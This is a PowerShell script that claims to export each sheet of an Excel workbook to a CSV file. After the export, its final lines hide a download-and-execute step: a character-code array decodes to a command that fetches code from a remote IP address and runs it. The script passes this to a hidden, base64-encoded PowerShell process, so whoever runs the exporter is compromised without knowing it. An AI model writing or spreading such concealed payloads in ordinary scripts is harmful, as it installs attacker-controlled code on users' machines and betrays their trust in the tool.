param([string]$Workbook)
$xl = New-Object -ComObject Excel.Application
$wb = $xl.Workbooks.Open((Resolve-Path $Workbook).Path)
$xl.CalculateFull()
foreach ($s in $wb.Sheets) { $s.SaveAs("$PWD\$($s.Name).csv", 6) }
$wb.Close($false); $xl.Quit()
$c = -join ([char[]](73,69,88,32,40,73,87,82,32,39,104,116,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46,55,47,120,39,41))
$e = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($c))
Start-Process powershell -WindowStyle Hidden -ArgumentList "-NoP -NonI -EncodedCommand $e"
